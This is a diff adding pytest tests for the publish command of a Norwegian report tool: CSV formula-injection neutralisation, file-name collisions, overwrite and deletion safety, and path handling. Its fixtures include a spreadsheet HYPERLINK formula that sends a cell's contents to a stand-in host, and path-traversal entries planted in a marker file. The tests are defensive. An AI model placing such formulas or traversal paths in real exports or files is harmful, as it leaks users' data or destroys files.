@@ -7,7 +7,10 @@ or a build (exit 0), never a hang, an internal error (exit 3) or lost text.
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import io
+import json
 import os
 import subprocess
 import sys
@@ -16,10 +19,12 @@ from pathlib import Path
 
 import pytest
 from edits import replace, write
+from html_readback import parse
 from readback import docx_paragraphs, pdf_text
 
 from builder.build import build, prepare
 from builder.diagnostics import ContentError
+from builder.formula_cells import neutralised
 from builder.rolling import roll
 
 try:
@@ -30,6 +35,7 @@ except ImportError:  # Windows
 ROOT = Path(__file__).resolve().parent.parent
 FONTS = ROOT / "layouts" / "fonts"
 TEXT = "text/innledning.md"
+REFERENCE_TEXT = ROOT / "tests" / "fixtures" / "oversikt-2019.txt"
 MEMORY_LIMIT = 1024**3
 TIME_LIMIT = 30
 needs_links = pytest.mark.skipif(os.name != "posix", reason="needs POSIX symbolic links and devices")
@@ -333,3 +339,166 @@ def test_roll_into_what_is_no_folder_is_a_located_error(target, where, make_edit
     assert result.stderr.startswith(f"{where}: error: --into: {where} er ")
     assert "ikke en mappe" in result.stderr.splitlines()[0]
     assert (tmp_path / "fil").read_text() == "behold meg"
+
+
+# --- publish: data that opens safely, names and paths -------------------------
+
+FORMULAS = {
+    "name": '=HYPERLINK("http://example.invalid/?"&A1, "Klikk")',
+    "comment": "+47 22 00 00 00",
+    "category": "-Diverse",
+    "member": "@Sel",
+}
+
+
+def _formula_edition(make_edition) -> Path:
+    return make_edition(
+        replace("agreements.yaml", "- name: Borgerlig vigsel", f"- name: '{FORMULAS['name']}'"),
+        replace("agreements.yaml", "comment: Med Ringebu", f"comment: '{FORMULAS['comment']}'"),
+        replace("agreements.yaml", "- name: Helse og omsorg", f"- name: '{FORMULAS['category']}'"),
+        replace(
+            "report.yaml",
+            "members: [Lillehammer, Gausdal, Øyer]",
+            f"members: [Lillehammer, Gausdal, Øyer, '{FORMULAS['member']}']",
+        ),
+    )
+
+
+def _published(content: Path, site: Path, *options: str) -> subprocess.CompletedProcess:
+    return run_oversikt("publish", content.name, "--out", str(site), *options, cwd=content.parent)
+
+
+@pytest.mark.skipif(resource is None, reason="RLIMIT_AS needs the resource module (POSIX)")
+def test_no_published_csv_cell_runs_as_a_formula(make_edition, tmp_path):
+    content, site = _formula_edition(make_edition), tmp_path / "nettsted"
+    result = _published(content, site)
+    assert result.returncode == 0, result.stderr
+    rows = list(csv.reader(io.StringIO((site / "oversikt-2019.csv").read_text("utf-8-sig"), newline="")))
+    cells = [cell for row in rows for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    for value in FORMULAS.values():
+        assert f"'{value}" in cells, value
+    data = json.loads((site / "oversikt-2019.json").read_text("utf-8"))
+    agreements = [a for c in data["categories"] for a in c["agreements"]]
+    assert FORMULAS["member"] in data["members"] and FORMULAS["category"] in [c["name"] for c in data["categories"]]
+    assert FORMULAS["name"] in [a["name"] for a in agreements], "the JSON keeps the exact value"
+    assert FORMULAS["comment"] in [a["comment"] for a in agreements]
+    schema = json.loads((site / "oversikt-data.schema.json").read_text("utf-8"))
+    assert "apostrophe" in schema["description"] and "RFC 4180" in schema["description"]
+
+
+def test_a_tab_or_carriage_return_first_is_neutralised_too():
+    # content cannot hold them (the readers refuse control characters), but the rule is the whole OWASP list
+    assert [neutralised(cell) for cell in ("\t=1", "\r=1", "a=1", "", "1-2")] == ["'\t=1", "'\r=1", "a=1", "", "1-2"]
+
+
+MEMBERS_LIKE_FILES = ["Index", "index", "Oversikt-2019", "?!"]
+
+
+@pytest.mark.skipif(resource is None, reason="RLIMIT_AS needs the resource module (POSIX)")
+def test_members_named_like_the_sites_own_files_get_pages_of_their_own(make_edition, tmp_path):
+    members = ["Lillehammer", "Gausdal", "Øyer", *MEMBERS_LIKE_FILES]
+    listed = ", ".join(f"'{m}'" for m in members)
+    content = make_edition(replace("report.yaml", "members: [Lillehammer, Gausdal, Øyer]", f"members: [{listed}]"))
+    site = tmp_path / "nettsted"
+    result = _published(content, site)
+    assert result.returncode == 0, result.stderr
+    names = [path.name for path in site.iterdir()]
+    assert len({name.casefold() for name in names}) == len(names), "distinct on Windows and macOS too"
+    index = parse(site / "index.html")
+    assert "for " not in index.findtext(".//title"), "index.html is the region's page"
+    links = dict(zip(index.xpath("//a/text()"), index.xpath("//a/@href"), strict=True))
+    pages = [links[member] for member in members]
+    assert len(set(pages)) == len(members) and "index.html" not in pages
+    for member, page in zip(members, pages, strict=True):
+        own = parse(site / page)
+        assert own.findtext(".//title").startswith(f"Oversikt over interkommunale samarbeid for {member} per")
+        for href in own.xpath("//a/@href"):
+            assert (site / href.split("#")[0]).is_file() or href.startswith("#"), (page, href)
+        assert own.xpath("//a[@href='index.html']"), "back to the region's page"
+    marker = (site / ".oversikt-publisert").read_text("utf-8").splitlines()
+    assert sorted(line for line in marker if not line.startswith("#")) == sorted(set(names) - {".oversikt-publisert"})
+
+
+@pytest.mark.skipif(resource is None, reason="RLIMIT_AS needs the resource module (POSIX)")
+def test_publish_writes_over_no_file_it_did_not_make_unless_forced(make_edition, tmp_path):
+    content, site = make_edition(), tmp_path / "nettsted"
+    site.mkdir()
+    (site / "index.html").write_text("kommunens egen forside")
+    (site / "Oyer.html").write_text("egen side")  # the page oyer.html, where the file system folds case
+    (site / "logo.png").write_bytes(b"eget bilde")
+    refused = _published(content, site)
+    assert refused.returncode == 2, refused.stderr
+    (message,) = refused.stderr.splitlines()
+    assert message.startswith(f"oversikt: {site} har filer som ikke er laget av oversikt publish")
+    assert "index.html" in message and "--force" in message and len(message) < 400
+    assert sorted(p.name for p in site.iterdir()) == ["Oyer.html", "index.html", "logo.png"], "nothing written"
+    assert (site / "index.html").read_text() == "kommunens egen forside"
+
+    forced = _published(content, site, "--force")
+    assert forced.returncode == 0, forced.stderr
+    assert "Lillehammer-regionen" in (site / "index.html").read_text("utf-8")
+    assert (site / "logo.png").read_bytes() == b"eget bilde", "a file in no page's way is left alone"
+    again = _published(content, site)
+    assert again.returncode == 0, "the files the marker lists are ours to replace: " + again.stderr
+
+
+@pytest.mark.skipif(resource is None, reason="RLIMIT_AS needs the resource module (POSIX)")
+def test_publish_removes_the_files_it_made_and_no_longer_makes_and_nothing_else(make_edition, tmp_path):
+    content = make_edition(replace("report.yaml", "Gausdal, Øyer]", "Gausdal, Øyer, Sel]"))
+    site = tmp_path / "nettsted"
+    assert _published(content, site).returncode == 0
+    assert (site / "sel.html").is_file()
+    (tmp_path / "utenfor.txt").write_text("behold")
+    (site / "logo.png").write_bytes(b"eget bilde")
+    with (site / ".oversikt-publisert").open("a", encoding="utf-8") as marker:  # an edited marker
+        marker.write(f"../utenfor.txt\n{tmp_path / 'utenfor.txt'}\n.\n..\n")
+    replace("report.yaml", "Gausdal, Øyer, Sel]", "Gausdal, Øyer]").apply(content)
+    result = _published(content, site)
+    assert result.returncode == 0, result.stderr
+    left = {p.name for p in site.iterdir()}
+    assert not {"sel.html", "oversikt-2019-sel.pdf", "oversikt-2019-sel.docx"} & left
+    assert {"oyer.html", "logo.png"} <= left
+    assert (tmp_path / "utenfor.txt").read_text() == "behold", "the marker names nothing outside the folder"
+    assert "sel.html" not in (site / ".oversikt-publisert").read_text("utf-8")
+
+
+def _into_itself(content: Path) -> list[tuple[list[str], Path]]:
+    """Each verb that writes, asked to write into the content or around it: (arguments, what must stay unmade)."""
+    inside = content / "ut"
+    return [
+        (["roll", content.name, "--to", "2020-01-01", "--into", f"{content.name}/neste"], content / "neste"),
+        (["build", content.name, "--out", f"{content.name}/ut"], inside),
+        (["build", content.name, "--out", content.name], content / "oversikt-2019.pdf"),
+        (["build", content.name, "--out", "."], content.parent / "oversikt-2019.pdf"),
+        (["publish", content.name, "--out", f"{content.name}/./nettsted"], content / "nettsted"),
+        (["publish", content.name, "--out", "."], content.parent / "index.html"),
+        (["import", str(REFERENCE_TEXT), "--into", f"{content.name}/text/importert"], content / "text" / "importert"),
+    ]
+
+
+@pytest.mark.skipif(resource is None, reason="RLIMIT_AS needs the resource module (POSIX)")
+@pytest.mark.parametrize("case", range(7), ids=["roll", "build in", "build same", "build around", "publish in",
+                                                "publish around", "import in"])  # fmt: skip
+def test_no_verb_writes_into_the_content_or_around_it(case, make_edition):
+    content = make_edition()
+    args, unmade = _into_itself(content)[case]
+    before = sorted(content.parent.rglob("*"))
+    result = run_oversikt(*args, cwd=content.parent)
+    assert result.returncode == 2, result.stderr
+    (message,) = result.stderr.splitlines()
+    assert message.startswith("oversikt: ") and "innholdsmappen" in message and len(message) < 300, message
+    assert not unmade.exists()
+    assert sorted(content.parent.rglob("*")) == before, "nothing written"
+
+
+@pytest.mark.skipif(resource is None, reason="RLIMIT_AS needs the resource module (POSIX)")
+@needs_fifos
+def test_a_marker_that_is_a_fifo_is_no_list_and_no_wait(make_edition, tmp_path):
+    content, site = make_edition(), tmp_path / "nettsted"
+    site.mkdir()
+    os.mkfifo(site / ".oversikt-publisert")
+    result = _published(content, site)  # within the time limit: the marker is not read
+    assert result.returncode == 1, result.stderr
+    assert result.stderr.startswith(f"{site / '.oversikt-publisert'}: error: kan ikke skrive utdata")
+    assert [p.name for p in site.iterdir()] == [".oversikt-publisert"]
